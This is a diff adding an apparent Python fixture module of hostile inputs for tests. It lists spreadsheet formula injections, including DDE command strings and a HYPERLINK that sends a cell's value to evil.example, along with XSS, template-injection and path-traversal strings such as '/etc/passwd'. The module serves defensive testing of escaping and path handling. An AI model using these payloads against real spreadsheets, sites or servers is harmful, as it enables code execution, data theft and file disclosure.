@@ -1,0 +1,67 @@
+"""Names and cells that attack spreadsheets, pages and paths; for every test that shows text."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\x00=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "=",
+    "-",
+)
+
+HTML = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "'-alert(1)-'",
+    "</script><script>alert(1)</script>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "{{7*7}}",
+    "{% import os %}",
+    "${7*7}",
+    "&lt;script&gt;",
+    "<!--",
+    "]]>",
+    "javascript:alert(1)",
+    "<b>bold</b>",
+    "![x](javascript:alert(1))",
+    "[click](javascript:alert(1))",
+)
+
+PATHS = (
+    "../evil",
+    "../../../../etc/passwd",
+    "/etc/passwd",
+    "result/../../evil",
+    "..\\evil",
+    "result\\..\\..\\evil",
+    "C:\\evil",
+    "C:evil",
+    "\\\\server\\share\\evil",
+    "result/",
+    "result//evil",
+    "./evil",
+    "result/./evil",
+    "evil\x00.json",
+    "result/evil.",
+    "result/ evil",
+    "result/a/b/c/d",
+    "result/evil\n",
+    "NUL:",
+    " ",
+)
